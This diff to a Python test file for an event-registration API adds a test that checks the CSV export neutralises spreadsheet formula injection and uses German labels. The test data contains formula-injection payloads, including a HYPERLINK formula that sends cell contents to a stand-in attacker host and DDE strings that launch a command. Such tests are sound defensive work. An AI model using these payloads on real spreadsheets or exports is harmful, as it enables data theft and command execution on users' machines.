@@ -251,7 +251,64 @@ async def test_csv_export_opens_in_german_excel(
     rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
     assert rows[0][:3] == ["Name", "E-Mail", "Telefon"]
     assert rows[1][0] == "Müller; Jörg"
-    assert rows[1][3] == "pending"
+    assert rows[1][3] == "unbestätigt"
+
+
+def read_csv(content: bytes) -> list[dict[str, str]]:
+    """The export as a spreadsheet program reads it: UTF-8 with BOM, `;`, quoted cells."""
+    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
+
+
+async def test_csv_cells_never_start_a_formula_and_speak_german(
+    client: Any, bensheim: Any, bensheim_headers: Any
+) -> None:
+    event = await make_published_event(
+        bensheim, registration_mode="per_session", capacity=3, max_seats_per_registration=2
+    )
+    [session] = await sessions_of(event)
+    url = f"/api/v1/sessions/{session.id}/registrations"
+    hyperlink = '=HYPERLINK("https://evil.example/?x="&A1;"Klick")'
+    await client.post(
+        url,
+        json={
+            **PERSON,
+            "name": hyperlink,
+            "email": "=1+1@example.org",
+            "needs": {"interpretation": "ar", "accessibility": "@SUM(1+1)*cmd|' /C calc'!A0"},
+        },
+    )
+    guide_url = f"/api/v1/guide/sessions/{session.id}/registrations"
+    walk_in = await client.post(
+        guide_url,
+        json={"name": "+cmd|' /C calc'!A0", "phone": "+49 6251 1234", "seats": 2},
+        headers=bensheim_headers,
+    )
+    await client.post(
+        guide_url, json={"name": "-2+3", "phone": "-0151 123456"}, headers=bensheim_headers
+    )
+    await client.put(
+        f"/api/v1/guide/sessions/{session.id}/attendance",
+        json={"registration_id": walk_in.json()["id"], "status": "no_show"},
+        headers=bensheim_headers,
+    )
+    response = await client.get(f"{guide_url}.csv", headers=bensheim_headers)
+    rows = read_csv(response.content)
+
+    assert [row["Name"] for row in rows] == [f"'{hyperlink}", "'+cmd|' /C calc'!A0", "'-2+3"]
+    assert rows[0]["E-Mail"] == "'=1+1@example.org"
+    assert rows[0]["Barrierefreiheit"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert [row["Telefon"] for row in rows] == ["", "'+49 6251 1234", "'-0151 123456"]
+    # Nothing a spreadsheet would run is left at the start of any cell.
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
+    # The words are German, not the API's codes.
+    assert [row["Status"] for row in rows] == ["unbestätigt", "bestätigt", "Warteliste"]
+    assert [row["Quelle"] for row in rows] == ["selbst", "Guide", "Guide"]
+    assert rows[0]["Sprache"] == "Ukrainisch"
+    assert rows[0]["Dolmetschen"] == "Arabisch"
+    assert rows[1]["Anwesenheit"].endswith(": nicht erschienen")
+    assert rows[2]["Warteliste"] == "1"
 
 
 # --- the page behind the link --------------------------------------------------------------
